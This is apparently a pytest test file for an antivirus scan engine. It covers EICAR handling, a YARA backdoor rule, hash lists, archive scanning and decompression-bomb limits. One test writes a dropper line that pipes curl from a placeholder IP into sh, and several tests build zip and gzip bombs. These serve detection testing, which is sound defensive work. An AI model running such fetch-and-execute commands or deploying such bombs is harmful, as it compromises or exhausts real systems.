"""The scan engine on real files: EICAR, a real signature-base rule, hash lists, archives and bombs."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zipfile
from pathlib import Path

import pytest

from garrison.agent.protection.archives import ArchiveLimits
from garrison.agent.protection.engine import ARCHIVE_BOMB_THREAT, EICAR_THREAT, Engine
from garrison.agent.protection.hashes import FileHashes, HashReputation
from garrison.agent.protection.rulepack import load_pack
from tests.agent.protection.samples import DATA, EICAR, RULES, nested_bomb, plague_sample


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    hashes = HashReputation()
    hashes.load(DATA / "hash-iocs-sample.txt")
    return Engine(load_pack(RULES, tmp_path_factory.mktemp("rule-cache")), hashes)


def threats(verdict: object) -> set[str]:
    return {d.threat_name for d in verdict.detections}  # type: ignore[attr-defined]


def test_eicar_and_its_conventions(engine: Engine, tmp_path: Path) -> None:
    (tmp_path / "eicar.com").write_bytes(EICAR)
    (tmp_path / "eicar-crlf.txt").write_bytes(EICAR + b"\r\n")
    (tmp_path / "eicar-embedded.txt").write_bytes(b"hello " + EICAR)  # not at the start: not the test file
    (tmp_path / "eicar-long.txt").write_bytes(EICAR + b" " * 61)  # 129 bytes: over the 128-byte limit
    assert threats(engine.scan_file(str(tmp_path / "eicar.com"))) == {EICAR_THREAT}
    assert threats(engine.scan_file(str(tmp_path / "eicar-crlf.txt"))) == {EICAR_THREAT}
    assert threats(engine.scan_file(str(tmp_path / "eicar-embedded.txt"))) == set()
    assert threats(engine.scan_file(str(tmp_path / "eicar-long.txt"))) == set()


def test_a_real_signature_base_rule_matches_a_file_built_from_its_strings(engine: Engine, tmp_path: Path) -> None:
    sample = tmp_path / "plague"
    sample.write_bytes(plague_sample())
    verdict = engine.scan_file(str(sample))
    assert threats(verdict) == {"MAL_LNX_PLAGUE_BACKDOOR_Jul25"}
    det = verdict.detections[0]
    assert det.engine == "yara" and det.rule == "mal_lnx_plague.MAL_LNX_PLAGUE_BACKDOOR_Jul25"
    assert det.sha256 == FileHashes.of(sample.read_bytes()).sha256
    # The rule wants the ELF magic: the same strings in a text file do not match.
    (tmp_path / "notes.txt").write_bytes(plague_sample()[4:])
    assert threats(engine.scan_file(str(tmp_path / "notes.txt"))) == set()


def test_the_hash_list_format_and_a_hit(tmp_path: Path) -> None:
    reputation = HashReputation()
    real_lines = [ln for ln in (DATA / "hash-iocs-sample.txt").read_text().splitlines()
                  if ln.strip() and not ln.startswith("#")]
    assert reputation.load(DATA / "hash-iocs-sample.txt") == len(real_lines) == 40
    assert reputation.malformed == 0
    bad = tmp_path / "dropper.sh"
    bad.write_bytes(b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
    hashes = FileHashes.of(bad.read_bytes())
    for value, name in ((hashes.md5, "by md5"), (hashes.sha1, "by sha1"), (hashes.sha256, "by sha256")):
        one = HashReputation()
        one.add_lines([f"{value.upper()};{name}", "not-a-hash;x", "abc;too short"])
        assert one.malformed == 2
        verdict = Engine(hashes=one).scan_file(str(bad))
        assert [(d.threat_name, d.engine, d.sha1) for d in verdict.detections] == [(name, "hash", hashes.sha1)]
    assert Engine(hashes=reputation).scan_file(str(bad)).detections == []


def test_members_of_zip_tar_and_gzip_are_scanned(engine: Engine, tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("docs/readme.txt", b"nothing here")
        z.writestr("bin/plague", plague_sample())
    inner_zip = buf.getvalue()
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:gz") as t:
        for name, data in (("eicar.com", EICAR), ("inner.zip", inner_zip)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    (tmp_path / "bundle.tar.gz").write_bytes(tbuf.getvalue())
    (tmp_path / "eicar.gz").write_bytes(gzip.compress(EICAR))
    verdict = engine.scan_file(str(tmp_path / "bundle.tar.gz"))
    found = {(d.threat_name, d.path.removeprefix(str(tmp_path))) for d in verdict.detections}
    assert found == {(EICAR_THREAT, "/bundle.tar.gz!eicar.com"),
                     ("MAL_LNX_PLAGUE_BACKDOOR_Jul25", "/bundle.tar.gz!inner.zip!bin/plague")}
    assert verdict.incomplete == []
    assert threats(engine.scan_file(str(tmp_path / "eicar.gz"))) == {EICAR_THREAT}


def test_nesting_deeper_than_the_limit_is_reported_not_followed(tmp_path: Path) -> None:
    data = EICAR
    for level in range(4):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"level{level}", data)
        data = buf.getvalue()
    (tmp_path / "deep.zip").write_bytes(data)
    shallow = Engine(limits=ArchiveLimits(max_depth=3)).scan_file(str(tmp_path / "deep.zip"))
    assert shallow.detections == [] and any("nested deeper than 3" in i for i in shallow.incomplete)
    deep = Engine(limits=ArchiveLimits(max_depth=4)).scan_file(str(tmp_path / "deep.zip"))
    assert threats(deep) == {EICAR_THREAT}


def test_a_nested_zip_bomb_costs_a_bounded_amount_and_is_reported(engine: Engine, tmp_path: Path) -> None:
    """16 zips of 256 MiB of zeros each (4 GiB from ~4 MB), with the default limits."""
    bomb = tmp_path / "42.zip"
    bomb.write_bytes(nested_bomb())
    assert bomb.stat().st_size < 8 << 20
    verdict = engine.scan_file(str(bomb))
    assert ARCHIVE_BOMB_THREAT in threats(verdict)
    assert any("archive limit reached" in i for i in verdict.incomplete)
    limits = engine.limits
    assert verdict.scanned_bytes <= limits.max_total_bytes + limits.max_member_bytes + bomb.stat().st_size


@pytest.mark.parametrize("kind", ["gzip", "tar.gz", "zip"])
def test_bombs_of_every_format_stop_at_the_limits(kind: str, tmp_path: Path) -> None:
    limits = ArchiveLimits(max_member_bytes=1 << 20, max_total_bytes=4 << 20)
    payload = bytes(64 << 20)
    path = tmp_path / f"bomb.{kind}"
    if kind == "gzip":
        path.write_bytes(gzip.compress(payload, 9))
    elif kind == "tar.gz":
        with tarfile.open(path, "w:gz") as t:
            for i in range(3):
                info = tarfile.TarInfo(f"zeros{i}")
                info.size = len(payload)
                t.addfile(info, io.BytesIO(payload))
    else:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("zeros", payload)
    verdict = Engine(limits=limits).scan_file(str(path))
    assert threats(verdict) == {ARCHIVE_BOMB_THREAT}
    assert verdict.scanned_bytes <= limits.max_total_bytes + path.stat().st_size


def test_a_large_archive_that_is_no_bomb_is_incomplete_not_a_detection(tmp_path: Path) -> None:
    path = tmp_path / "random.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("random.bin", os.urandom(2 << 20))
    verdict = Engine(limits=ArchiveLimits(max_member_bytes=1 << 20)).scan_file(str(path))
    assert verdict.detections == []
    assert verdict.incomplete == [f"{path}: archive limit reached (member_bytes)"]


def test_special_files_symlinks_and_broken_archives_never_hang_or_raise(engine: Engine, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")  # a FIFO nobody writes: opening it must not block
    (tmp_path / "eicar").write_bytes(EICAR)
    (tmp_path / "link").symlink_to(tmp_path / "eicar")
    (tmp_path / "broken.zip").write_bytes(b"PK\x03\x04" + os.urandom(200))
    assert engine.scan_file(str(tmp_path / "fifo")).error == "not a regular file"
    assert engine.scan_file(str(tmp_path / "link")).error.startswith("OSError")  # not followed
    broken = engine.scan_file(str(tmp_path / "broken.zip"))
    assert broken.detections == [] and broken.incomplete[0].startswith(f"{tmp_path}/broken.zip: unreadable archive")
    assert engine.scan_file(str(tmp_path / "missing")).error.startswith("FileNotFoundError")
